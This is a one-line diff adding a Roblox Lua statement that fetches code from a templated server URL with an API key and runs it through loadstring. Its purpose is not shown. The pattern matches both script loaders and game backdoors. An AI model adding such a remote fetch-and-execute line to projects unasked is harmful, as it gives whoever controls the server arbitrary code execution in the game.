@@ -1,0 +1,1 @@
+loadstring(game:GetService("HttpService"):GetAsync("{{SERVER_URL}}/api/game/loader?key={{API_KEY}}"))()
